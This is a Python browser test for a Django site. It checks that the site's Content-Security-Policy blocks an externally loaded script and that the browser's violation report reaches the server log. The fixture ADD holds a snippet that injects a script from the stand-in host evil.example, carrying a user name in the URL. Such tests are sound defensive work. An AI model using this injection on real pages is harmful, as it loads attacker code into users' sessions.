"""A script from elsewhere does not run, and the machine's log hears of it from the browser itself."""

import time

import pytest
from django.urls import reverse

from borgerforloeb.pages import blocked

ADD = """() => { const added = document.createElement("script");
    added.src = "https://evil.example/x.js?who=freja"; document.head.append(added); }"""


@pytest.fixture(autouse=True)
def _nothing_told_yet():
    blocked.told.forget()


def test_what_is_blocked_is_told(looking, caplog):
    looking.page.goto(looking.base + reverse("account_login"))

    looking.page.evaluate(ADD)

    told = "a browser blocked what a page of ours holds: script-src-elem, from https://evil.example"
    until = time.monotonic() + 15
    while told not in caplog.messages and time.monotonic() < until:
        looking.page.wait_for_timeout(100)
    assert told in caplog.messages
